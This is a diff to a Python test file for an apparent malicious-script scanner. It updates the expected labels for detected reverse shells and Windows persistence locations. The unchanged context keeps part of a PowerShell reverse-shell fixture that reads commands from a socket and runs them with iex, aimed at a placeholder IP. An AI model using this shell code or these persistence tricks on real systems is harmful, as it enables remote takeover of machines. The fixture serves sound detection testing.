@@ -124,7 +124,7 @@ def test_tcpclient_reverse_shell(tmp_path: Path) -> None:
         "while(($i = $s.Read($b, 0, $b.Length)) -ne 0){ $d = (New-Object Text.ASCIIEncoding).GetString($b,0,$i)\n"
         "  $r = (iex $d 2>&1 | Out-String) }\n",
     )
-    assert (Kind.RAW_SOCKET, "192.0.2.9 (reverse shell)") in summary(found)
+    assert (Kind.RAW_SOCKET, "192.0.2.9 (remote shell)") in summary(found)
 
 
 def test_run_key_scheduled_task_profile_and_startup_folder(tmp_path: Path) -> None:
@@ -140,8 +140,12 @@ def test_run_key_scheduled_task_profile_and_startup_folder(tmp_path: Path) -> No
     assert persisted == {
         ("a Windows Run key", 1),
         ("a scheduled task", 2),
-        ("a PowerShell profile: $PROFILE", 3),
-        ("the Windows Startup folder: ~/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/u.cmd", 5),
+        ("a PowerShell profile: $PROFILE (runs code)", 3),
+        (
+            "the Windows Startup folder: ~/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/u.cmd"
+            " (runs code)",
+            5,
+        ),
     }
 
 
